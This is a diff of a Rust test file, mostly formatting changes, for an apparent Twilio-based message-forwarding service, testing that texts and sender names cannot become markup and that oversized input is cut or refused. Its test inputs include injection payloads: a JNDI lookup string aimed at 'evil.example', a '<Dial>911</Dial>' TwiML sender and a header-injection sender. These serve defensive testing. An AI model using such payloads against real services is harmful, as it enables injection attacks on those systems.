@@ -18,12 +18,22 @@ async fn a_text_never_becomes_markup() {
         "{{body}} ${jndi:ldap://evil.example} {From}",
         "line\nline\ttab",
     ] {
-        scene.text_leads_to(STRANGER, body, &[&forwarded(STRANGER, body)]).await;
+        scene
+            .text_leads_to(STRANGER, body, &[&forwarded(STRANGER, body)])
+            .await;
         scene.text_leads_to(MOBILE, body, &[body]).await;
     }
     // A literal CR survives; what XML cannot hold is left out.
-    scene.text_leads_to(STRANGER, "a\r\nb", &[&forwarded(STRANGER, "a\r\nb")]).await;
-    scene.text_leads_to(STRANGER, "a\u{0}b\u{1b}[31m\u{ffff}c", &[&forwarded(STRANGER, "ab[31mc")]).await;
+    scene
+        .text_leads_to(STRANGER, "a\r\nb", &[&forwarded(STRANGER, "a\r\nb")])
+        .await;
+    scene
+        .text_leads_to(
+            STRANGER,
+            "a\u{0}b\u{1b}[31m\u{ffff}c",
+            &[&forwarded(STRANGER, "ab[31mc")],
+        )
+        .await;
     assert_eq!(scene.sandbox.twilio.alerts(), []);
 }
 
@@ -32,10 +42,15 @@ async fn a_sender_never_becomes_markup() {
     let scene = Scene::start().await;
     for sender in ["<Dial>911</Dial>", "A&B", "\"'>"] {
         let params = scene.inbound(sender, "Hello");
-        assert_eq!(scene.deliver(&params).await.messages, [forwarded(sender, "Hello")]);
+        assert_eq!(
+            scene.deliver(&params).await.messages,
+            [forwarded(sender, "Hello")]
+        );
     }
     for sender in ["A\nFrom: B", "Ån\u{202e}n"] {
-        scene.ignored(&scene.inbound(sender, "Hello"), "channel_not_served").await;
+        scene
+            .ignored(&scene.inbound(sender, "Hello"), "channel_not_served")
+            .await;
     }
 }
 
@@ -45,7 +60,11 @@ async fn a_huge_text_is_cut() {
     let scene = Scene::start().await;
     let params = scene.inbound(STRANGER, &"<&>".repeat(100_000));
     let reply = scene.deliver(&params).await;
-    let lengths: Vec<usize> = reply.messages.iter().map(|text| text.chars().count()).collect();
+    let lengths: Vec<usize> = reply
+        .messages
+        .iter()
+        .map(|text| text.chars().count())
+        .collect();
     assert_eq!((reply.status, lengths), (200, vec![1_600, 1_600]));
 }
 
@@ -53,5 +72,8 @@ async fn a_huge_text_is_cut() {
 async fn a_huge_request_is_refused() {
     let scene = Scene::start().await;
     let params = scene.inbound(STRANGER, &"x".repeat(1024 * 1024));
-    assert_eq!((scene.deliver(&params).await.status, scene.asked()), (413, [0; 3]));
+    assert_eq!(
+        (scene.deliver(&params).await.status, scene.asked()),
+        (413, [0; 3])
+    );
 }
